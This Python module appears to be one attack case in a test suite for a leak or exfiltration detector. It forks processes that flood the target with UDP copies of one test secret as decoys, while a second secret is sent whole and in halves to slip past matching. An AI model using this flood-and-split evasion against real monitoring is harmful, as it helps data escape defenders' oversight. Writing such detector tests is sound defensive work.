"""A flood of matches that are only told of, to hide one that is held.

Processes send the row's second secret as fast as they can, each time as a new flow; beside them the
first is sent, whole and in halves.
"""

from __future__ import annotations

import os
import signal
import socket
import time

from attacks.connection import leak, leak_in_halves
from attacks.target import Target, refused

FLOODERS = 2
SECONDS = 3.0


def main(target: Target) -> None:
    """Flood, and send the value meanwhile."""
    children = [flooder(target) for _ in range(FLOODERS)]
    try:
        time.sleep(0.5)
        leak(target)
        leak_in_halves(target)
        time.sleep(0.5)
        leak(target)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


def flooder(target: Target) -> int:
    """A process that sends alerts for some seconds; its number."""
    child = os.fork()
    if child:
        return child
    noise = list(target.secrets.values())[1].encode()
    end, number = time.monotonic() + SECONDS, 0
    while time.monotonic() < end:
        number += 1
        with socket.socket(target.af, socket.SOCK_DGRAM) as out, refused():
            out.sendto(b"%d: %s \n" % (number, noise), (target.address, target.port))
    os._exit(0)
